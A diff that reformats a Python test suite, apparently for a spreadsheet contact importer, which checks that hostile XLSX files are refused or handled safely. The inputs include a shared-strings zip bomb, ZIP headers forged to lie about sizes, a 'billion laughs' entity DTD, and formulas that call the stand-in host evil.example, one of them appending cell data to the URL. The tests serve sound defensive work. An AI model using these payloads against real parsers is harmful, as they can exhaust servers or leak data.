@@ -19,27 +19,35 @@ from tests.e2e.imports.test_preview import preview
 
 SECONDS = 20  # every hostile file is done with well within this (openpyxl took ~10 minutes on the first one)
 
-WORKBOOK = ('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
-            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
-            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
-RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
-        'Target="worksheets/sheet1.xml"/>'
-        '<Relationship Id="rId2" '
-        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
-        'Target="sharedStrings.xml"/></Relationships>')
+WORKBOOK = (
+    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
+)
+RELS = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
+    'Target="worksheets/sheet1.xml"/>'
+    '<Relationship Id="rId2" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
+    'Target="sharedStrings.xml"/></Relationships>'
+)
 MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
-CONTENT_TYPES = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-                 '<Default Extension="xml" ContentType="application/xml"/>'
-                 '<Override PartName="/xl/workbook.xml" '
-                 'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
-                 '<Override PartName="/xl/worksheets/sheet1.xml" '
-                 'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
-ROOT_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-             '<Relationship Id="rId1" Target="xl/workbook.xml" '
-             'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
-             '</Relationships>')
+CONTENT_TYPES = (
+    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    '<Default Extension="xml" ContentType="application/xml"/>'
+    '<Override PartName="/xl/workbook.xml" '
+    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
+    '<Override PartName="/xl/worksheets/sheet1.xml" '
+    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
+)
+ROOT_RELS = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Target="xl/workbook.xml" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
+    "</Relationships>"
+)
 
 
 def _cell(ref: str, value) -> str:
@@ -49,8 +57,10 @@ def _cell(ref: str, value) -> str:
 
 
 def sheet_xml(rows: list[list], *, dimension: str | None = None, extra: str = "") -> str:
-    body = "".join(f'<row r="{n}">' + "".join(_cell(f"{chr(65 + i)}{n}", v) for i, v in enumerate(row)) + "</row>"
-                   for n, row in enumerate(rows, start=1))
+    body = "".join(
+        f'<row r="{n}">' + "".join(_cell(f"{chr(65 + i)}{n}", v) for i, v in enumerate(row)) + "</row>"
+        for n, row in enumerate(rows, start=1)
+    )
     dim = f'<dimension ref="{dimension}"/>' if dimension else ""
     return f'<?xml version="1.0"?><worksheet {MAIN}>{dim}<sheetData>{body}{extra}</sheetData></worksheet>'
 
@@ -84,8 +94,7 @@ def _next_import_runs(client, db, tenant):
     assert job["status"] == "completed" and contacts(db, tenant.account_id, email="after@example.com")
 
 
-def test_a_sheet_declaring_a_million_rows_by_16k_columns_imports_its_real_cells_in_seconds(client, db, worker,
-                                                                                            tenant):
+def test_a_sheet_declaring_a_million_rows_by_16k_columns_imports_its_real_cells_in_seconds(client, db, worker, tenant):
     from openpyxl import load_workbook
 
     content = xlsx(sheet_xml(PEOPLE, dimension="A1:XFD1048576"))
@@ -99,7 +108,7 @@ def test_a_sheet_declaring_a_million_rows_by_16k_columns_imports_its_real_cells_
 
 
 def test_a_shared_strings_zip_bomb_is_refused_before_it_is_inflated(client, db, worker, tenant):
-    bomb = b'<sst ' + MAIN.encode() + b'>' + b"<si><t>" + b"A" * (64 * 1024 * 1024) + b"</t></si></sst>"
+    bomb = b"<sst " + MAIN.encode() + b">" + b"<si><t>" + b"A" * (64 * 1024 * 1024) + b"</t></si></sst>"
     content = xlsx(sheet_xml([["email"], ["x@example.com"]]), shared=bomb)
     answered = preview(client, tenant, content, "bomb.xlsx")
     job = _timed_import(client, db, tenant, content, "bomb.xlsx")
@@ -117,7 +126,7 @@ def _lie_about_size(content: bytes, part: str, size: int) -> bytes:
     at = data.find(b"PK\x01\x02")
     while at != -1:
         name_length = struct.unpack_from("<H", data, at + 28)[0]
-        if data[at + 46:at + 46 + name_length].decode() == part:
+        if data[at + 46 : at + 46 + name_length].decode() == part:
             struct.pack_into("<I", data, at + 24, size)
         at = data.find(b"PK\x01\x02", at + 4)
     return bytes(data)
@@ -138,7 +147,7 @@ def _claim_sizes(content: bytes, part: str, size: int) -> bytes:
     at = data.find(b"PK\x01\x02")
     while at != -1:
         name_length = struct.unpack_from("<H", data, at + 28)[0]
-        if data[at + 46:at + 46 + name_length].decode() == part:
+        if data[at + 46 : at + 46 + name_length].decode() == part:
             struct.pack_into("<II", data, at + 20, size, size)
         at = data.find(b"PK\x01\x02", at + 4)
     return bytes(data)
@@ -146,7 +155,7 @@ def _claim_sizes(content: bytes, part: str, size: int) -> bytes:
 
 def test_a_spreadsheet_over_2_gib_uncompressed_is_refused_before_anything_is_inflated(client, db, worker, tenant):
     # No part inflates more than 100 times (the directory says stored, 1:1), but together they are 2.4 GiB.
-    content = xlsx(sheet_xml(PEOPLE), shared=b'<sst ' + MAIN.encode() + b'><si><t>x</t></si></sst>')
+    content = xlsx(sheet_xml(PEOPLE), shared=b"<sst " + MAIN.encode() + b"><si><t>x</t></si></sst>")
     for part in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"):
         content = _claim_sizes(content, part, 800 * 1024**2)
     job = _timed_import(client, db, tenant, content, "huge.xlsx")
@@ -159,9 +168,11 @@ def test_a_spreadsheet_over_2_gib_uncompressed_is_refused_before_anything_is_inf
 
 def test_a_dtd_in_the_shared_strings_is_refused(client, db, worker, tenant):
     laughs = b'<!DOCTYPE sst [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
-    shared = laughs + b'<sst ' + MAIN.encode() + b'><si><t>email</t></si><si><t>&lol2;@example.com</t></si></sst>'
-    sheet = (f'<worksheet {MAIN}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
-             '<row r="2"><c r="A2" t="s"><v>1</v></c></row></sheetData></worksheet>')
+    shared = laughs + b"<sst " + MAIN.encode() + b"><si><t>email</t></si><si><t>&lol2;@example.com</t></si></sst>"
+    sheet = (
+        f'<worksheet {MAIN}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
+        '<row r="2"><c r="A2" t="s"><v>1</v></c></row></sheetData></worksheet>'
+    )
     job = _timed_import(client, db, tenant, xlsx(sheet, shared=shared), "laughs.xlsx")
 
     assert job["status"] == "failed" and job["error"]["code"] == "unsafe_spreadsheet"
@@ -171,8 +182,9 @@ def test_a_dtd_in_the_shared_strings_is_refused(client, db, worker, tenant):
 def test_a_value_past_column_1000_fails_the_file_with_its_row(client, db, worker, tenant):
     content = xlsx(sheet_xml(PEOPLE, extra='<row r="4"><c r="XFD4" t="inlineStr"><is><t>x</t></is></c></row>'))
     job = _timed_import(client, db, tenant, content, "wide.xlsx")
-    wide_csv = _timed_import(client, db, tenant, (",".join(f"c{i}" for i in range(1500)) + "\n1\n").encode(),
-                             "wide.csv")
+    wide_csv = _timed_import(
+        client, db, tenant, (",".join(f"c{i}" for i in range(1500)) + "\n1\n").encode(), "wide.csv"
+    )
 
     assert job["status"] == "failed" and job["error"]["code"] == "too_many_columns"
     assert "row 4 has a value in column 16384" in job["error"]["message"]
@@ -188,12 +200,14 @@ def test_entities_and_dtds_in_a_sheet_are_refused(client, db, worker, tenant):
 
 
 def test_formulas_give_their_cached_values_and_never_their_text(client, db, worker, tenant):
-    rows = ('<row r="1"><c r="A1" t="inlineStr"><is><t>email</t></is></c><c r="B1" t="inlineStr"><is><t>first_name'
-            '</t></is></c><c r="C1" t="inlineStr"><is><t>last_name</t></is></c></row>'
-            '<row r="2"><c r="A2" t="str"><f>LOWER("ANA@EXAMPLE.COM")</f><v>ana@example.com</v></c>'
-            '<c r="B2" t="str"><f>HYPERLINK("http://evil.example/?"&amp;A2,"Ana")</f><v>Ana</v></c>'
-            '<c r="C2"><f>WEBSERVICE("http://evil.example/")</f></c></row>')
-    content = xlsx(f'<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>')
+    rows = (
+        '<row r="1"><c r="A1" t="inlineStr"><is><t>email</t></is></c><c r="B1" t="inlineStr"><is><t>first_name'
+        '</t></is></c><c r="C1" t="inlineStr"><is><t>last_name</t></is></c></row>'
+        '<row r="2"><c r="A2" t="str"><f>LOWER("ANA@EXAMPLE.COM")</f><v>ana@example.com</v></c>'
+        '<c r="B2" t="str"><f>HYPERLINK("http://evil.example/?"&amp;A2,"Ana")</f><v>Ana</v></c>'
+        '<c r="C2"><f>WEBSERVICE("http://evil.example/")</f></c></row>'
+    )
+    content = xlsx(f"<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>")
     job = _timed_import(client, db, tenant, content, "formulas.xlsx")
     ana = contacts(db, tenant.account_id, email="ana@example.com")
 
@@ -229,7 +243,7 @@ def test_counting_rows_stops_past_the_limit():
 @pytest.mark.slow  # tracemalloc makes it slow
 def test_shared_strings_are_kept_on_disk_not_in_memory():
     strings = [f"contact-{i:07d}-{'x' * 40}" for i in range(150_000)]  # 8 MB of unique text, 17 MB as a list
-    shared = ('<sst ' + MAIN + '>' + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>").encode()
+    shared = ("<sst " + MAIN + ">" + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>").encode()
     sheet = "".join(f'<row r="{i + 1}"><c r="A{i + 1}" t="s"><v>{i}</v></c></row>' for i in range(len(strings)))
     content = xlsx(f"<worksheet {MAIN}><sheetData>{sheet}</sheetData></worksheet>", shared=shared)
     tracemalloc.start()
